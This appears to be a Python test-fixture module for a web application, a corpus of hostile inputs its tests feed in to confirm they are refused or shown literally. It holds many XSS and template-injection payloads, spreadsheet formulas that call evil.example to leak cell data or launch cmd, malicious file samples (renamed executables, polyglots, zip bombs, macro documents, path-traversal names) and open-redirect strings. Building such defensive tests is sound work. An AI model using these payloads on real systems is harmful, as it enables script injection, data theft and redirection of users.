"""The bad-input corpus: what a hostile or careless person types, names or uploads.

Every XSS vector carries a mark that shows if it ever ran or injected markup: it calls alert, confirm or
prompt, sets ``window.__xss``, or creates an element with a ``data-xss`` attribute or an id starting
with "xss". Template-injection strings must come out literally. None holds a NUL character: PostgreSQL
text cannot, and the forms refuse it before it gets there.
"""

import functools
import io
import zipfile

XSS_VECTORS = [
    # Script elements, plain, mixed case, with a source, split and nested.
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    "<script src=data:,window.__xss=1></script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<script>/*</script><script>*/window.__xss=1</script>",
    # Event handlers on img, svg, body, details, iframe, media, inputs.
    "<img src=x onerror=alert(1) data-xss>",
    '<img id=xss-img src=x onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=prompt(1) data-xss>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;" data-xss>',
    "<img src=x onerror=alert`1` data-xss>",
    r"<img src=x onerror=\u0061lert(1) data-xss>",
    "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE=')) data-xss>",
    "<img/id=xss-slash/src/onerror=alert(1)>",
    '<img srcset="x" onerror="alert(1)" data-xss>',
    "<svg onload=alert(1) data-xss>",
    "<svg/onload=alert(1)/data-xss>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s data-xss>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20" data-xss>XSS</text></a></svg>',
    "<body onload=alert(1) data-xss>",
    "<details open ontoggle=alert(1) data-xss>",
    '<iframe src="javascript:alert(1)" data-xss></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>" id=xss-srcdoc></iframe>',
    "<iframe src=data:text/html,<script>alert(1)</script> data-xss>",
    '<object data="data:text/html,<script>alert(1)</script>" data-xss></object>',
    '<object data="javascript:alert(1)" data-xss></object>',
    '<embed src="data:text/html,<script>alert(1)</script>" data-xss>',
    "<input autofocus onfocus=alert(1) data-xss>",
    "<video><source onerror=alert(1) data-xss></video>",
    "<audio src=x onerror=alert(1) data-xss>",
    "<marquee onstart=alert(1) data-xss>",
    "<x contenteditable autofocus onfocusin=alert(1) data-xss>focus</x>",
    # javascript: and data: URLs in links, forms and buttons; markdown-style links.
    '<a href="javascript:alert(1)" data-xss>click</a>',
    '<a href="JaVaScRiPt:alert(1)" id=xss-case>click</a>',
    '<a href="jav&#x09;ascript:alert(1)" data-xss>click</a>',
    '<a href="&#106;avascript:alert(1)" data-xss>click</a>',
    '<a href=" javascript:alert(1)" data-xss>click</a>',
    '<a href="\x01javascript:alert(1)" data-xss>click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" data-xss>click</a>',
    '<math href="javascript:alert(1)" data-xss>click</math>',
    "<form action=javascript:alert(1) data-xss><input type=submit></form>",
    "<button formaction=javascript:alert(1) data-xss>click</button>",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "javascript:alert(1)//https://example.org",
    # Breaking out of an attribute or an auto-link.
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=alert(1) data-xss>",
    '" autofocus onfocus="alert(1)" data-xss="',
    "' onmouseover='alert(1)' data-xss='",
    '" onload="window.__xss=1',
    'https://example.org/"onmouseover="alert(1)"data-xss="',
    "https://example.org/'onfocus='alert(1)'autofocus data-xss='",
    "https://example.org/**<img src=x onerror=alert(1) data-xss>**",
    "*<img src=x onerror=alert(1) data-xss>*",
    "**<svg onload=alert(1) data-xss>**",
    # Breaking out of the element the text sits in.
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "</p></div></main><img src=x onerror=alert(1) data-xss>",
    '<!--<img src="--><img src=x onerror=alert(1) data-xss//">',
    "<![CDATA[<script>window.__xss=1</script>]]>",
    # Mutation XSS: markup that changes meaning when parsed twice.
    '<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1) data-xss>">',
    "<style><img src=x onerror=alert(1) data-xss></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-xss>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1) data-xss>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1) data-xss>",
    "<template><script>window.__xss=1</script></template><img src=x onerror=alert(1) data-xss>",
    # CSS: expressions, javascript: in url(), imported and linked style sheets.
    '<div style="background:url(javascript:alert(1))" data-xss>x</div>',
    '<div style="width: expression(alert(1))" data-xss>x</div>',
    '<style>body{background:url("javascript:alert(1)")}</style><i data-xss>x</i>',
    "<link rel=stylesheet href=javascript:alert(1) data-xss>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" data-xss>',
    '<base href="javascript:alert(1)//" data-xss>',
    # Encoded variants: they must show as typed, never decoded into markup.
    r"\u003cscript\u003ewindow.__xss=1\u003c/script\u003e",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1) data-xss&#62;",
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    # Template injection: Django, Jinja, JavaScript, Ruby, ERB, AngularJS, Vue.
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" data-xss>x</div>",
]

# Strings that some template engine would evaluate: each must show literally wherever it is shown.
TEMPLATE_INJECTIONS = [
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__xss=1')()}}",
]
# Vectors that do nothing written into HTML as they are, only after some layer decodes or transforms them
# (a markdown renderer, an entity, URL or escape decoder, NFKC, UTF-7 sniffing, a naive tag-stripping
# filter, an XML parser, a template engine). They must show exactly as typed: proof that no layer did.
INERT_AS_HTML = [
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:window.__xss=1)",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    r"\u003cscript\u003ewindow.__xss=1\u003c/script\u003e",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1) data-xss&#62;",
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    *TEMPLATE_INJECTIONS,
]
MARKS = ("alert", "confirm", "prompt", "__xss", "data-xss", "id=xss")


def vectors_up_to(length: int) -> list[str]:
    """The vectors that fit a field of ``length`` characters (a display name holds 80)."""
    return [vector for vector in XSS_VECTORS if len(vector) <= length]


# --- Spreadsheet formulas ------------------------------------------------------------------------------

FORMULA_VALUES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "|calc",
    "%0A=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "=1+1\x07\x0b",  # controls an XLSX file cannot hold
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")


# --- Names ---------------------------------------------------------------------------------------------

BIDI_CONTROLS = [chr(c) for c in range(0x202A, 0x202F)] + [chr(c) for c in range(0x2066, 0x206A)]
ZERO_WIDTH = ["\u200b", "\u2060", "\ufeff"]
# Real names in scripts that need joiners or marks: all accepted as typed (in NFC).
LEGITIMATE_NAMES = [
    "فاطمه\u200cزهرا",  # Persian, zero-width non-joiner between the two parts
    "محمد عبد الله",
    "王小明",
    "Ёлка Дмитриевна Соколова",
    "Nguyễn Thị Minh Khai",
    "שָׁלוֹם כֹּהֵן",
    "สมชาย ใจดี",
    "김민준",
    "श्रीनिवास रामानुजन",
    "क्\u200dष त्रिपाठी",  # Devanagari, zero-width joiner
    "አበበ ቢቂላ",
    "Zoë O'Brien-Ñúñez",
    "Family 👩\u200d👩\u200d👧",  # emoji joined by zero-width joiners
]


# --- Files ---------------------------------------------------------------------------------------------

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def zip_of(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(extra: dict[str, bytes] | None = None, content_types: bytes = b"<Types/>") -> bytes:
    return zip_of({"[Content_Types].xml": content_types, "word/document.xml": b"<w:document/>", **(extra or {})})


@functools.cache
def zeros_zip(*, prefix: str, sizes: tuple[int, ...]) -> bytes:
    """An office file whose parts are megabytes of zeros, written in chunks so memory stays small."""
    buffer = io.BytesIO()
    chunk = b"0" * (1024 * 1024)
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for index, megabytes in enumerate(sizes):
            with archive.open(f"{prefix}part{index}.xml", "w", force_zip64=True) as part:
                for _ in range(megabytes):
                    part.write(chunk)
    return buffer.getvalue()


@functools.cache
def many_parts() -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", **{f"xl/worksheets/s{i}.xml": b"<x/>" for i in range(6000)}})


def lying_sizes() -> bytes:
    """A docx whose directory says a part is 100 bytes; it inflates to a megabyte."""
    data = bytearray(docx({"word/media/big.xml": b"0" * (1024 * 1024)}))
    real = (1024 * 1024).to_bytes(4, "little")
    assert data.count(real) == 2, "the size is in the local header and the central directory, nowhere else"
    return bytes(data.replace(real, (100).to_bytes(4, "little")))


def deflate64() -> bytes:
    """A docx whose parts say they are packed with Deflate64, which Python's zipfile cannot unpack."""
    data = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = data.find(signature)
        while start != -1:
            data[start + offset : start + offset + 2] = (9).to_bytes(2, "little")
            start = data.find(signature, start + 1)
    return bytes(data)


def bad_files() -> list[tuple[str, str, bytes, str]]:
    """(what it is, the name it is sent under, its bytes, the code of the refusal): each must be refused."""
    macro_types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    odt_macros = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b"<office:document-content/>",
        "Basic/Standard/Module1.xml": b"<script:module/>",
    }
    return [
        ("Windows executable renamed .pdf", "report.pdf", PE, "not_accepted"),
        ("ELF executable renamed .docx", "paper.docx", ELF, "not_accepted"),
        ("HTML renamed .pdf", "report.pdf", HTML, "not_accepted"),
        ("PDF and HTML polyglot", "report.pdf", b"%PDF-1.4\n" + HTML + b"\n" + PDF, "polyglot"),
        ("JPEG and HTML polyglot", "photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + HTML, "polyglot"),
        ("SVG with a script", "drawing.svg", SVG, "not_accepted"),
        ("SVG with a script renamed .png", "photo.png", SVG, "not_accepted"),
        ("GIF and script polyglot", "image.gif", b"GIF89a/*<svg onload=alert(1)>*/=alert(1)//", "not_accepted"),
        ("zip bomb in a .docx (one part of 60 MB)", "bomb.docx", zeros_zip(prefix="word/", sizes=(60,)), "zip_bomb"),
        ("zip bomb in a .xlsx (210 MB in all)", "bomb.xlsx", zeros_zip(prefix="xl/", sizes=(10,) * 21), "zip_bomb"),
        ("xlsx of 6,000 parts", "parts.xlsx", many_parts(), "zip_members"),
        ("docx whose sizes lie", "lying.docx", lying_sizes(), "damaged"),
        ("docm renamed .docx", "macros.docx", docx({"word/vbaProject.bin": PE}, macro_types), "macros"),
        (
            "xlsm renamed .xlsx",
            "macros.xlsx",
            zip_of({"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": PE}),
            "macros",
        ),
        ("OpenDocument with Basic macros", "macros.odt", zip_of(odt_macros), "macros"),
        ("double extension", "report.pdf.exe", PE, "not_accepted"),
        ("empty file", "empty.pdf", b"", "empty"),
        ("right-to-left override in the name", "invoice\u202efdp.exe", PE, "not_accepted"),
        ("path traversal in the name", "../../etc/passwd.pdf", HTML, "not_accepted"),
        ("overlong name", "a" * 300 + ".pdf", PE, "not_accepted"),
        ("plain zip", "archive.zip", zip_of({"evil.exe": PE}), "not_accepted"),
        ("docx packed with Deflate64", "packed.docx", deflate64(), "not_accepted"),
    ]


# Files that are fine but badly named: accepted, kept under a generated name, offered under a safe one.
WELL_MADE_BADLY_NAMED = [
    ("report.pdf.exe", PDF, "application/pdf", "report.pdf"),
    ("invoice\u202efdp.exe", PDF, "application/pdf", "invoicefdp.pdf"),
    ("../../etc/passwd.pdf", PDF, "application/pdf", "passwd.pdf"),
    ("..\\..\\boot.ini.pdf", PDF, "application/pdf", "boot.ini.pdf"),
    ("a" * 300 + ".pdf", PDF, "application/pdf", "a" * 196 + ".pdf"),
    ("notes.pdf", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "notes.docx"),
    ("\u200bre\u2060port\ufeff.pdf", PDF, "application/pdf", "report.pdf"),
    ('"quoted" <name>.pdf', PDF, "application/pdf", "_quoted_ _name_.pdf"),
    (".htaccess", PDF, "application/pdf", "htaccess.pdf"),
]


# --- Redirects -----------------------------------------------------------------------------------------

REDIRECT_ATTEMPTS = [
    "https://evil.example/",
    "http://evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https:evil.example",
    "http:/\\/evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "%2F%2Fevil.example",
    " //evil.example",
    "\t//evil.example",
    "\n//evil.example",
    "/\t/evil.example",
    "https://testserver@evil.example",
    "https://evil.example\\@testserver/",
    "https://evil.example#@testserver",
    "\x01//evil.example",
]
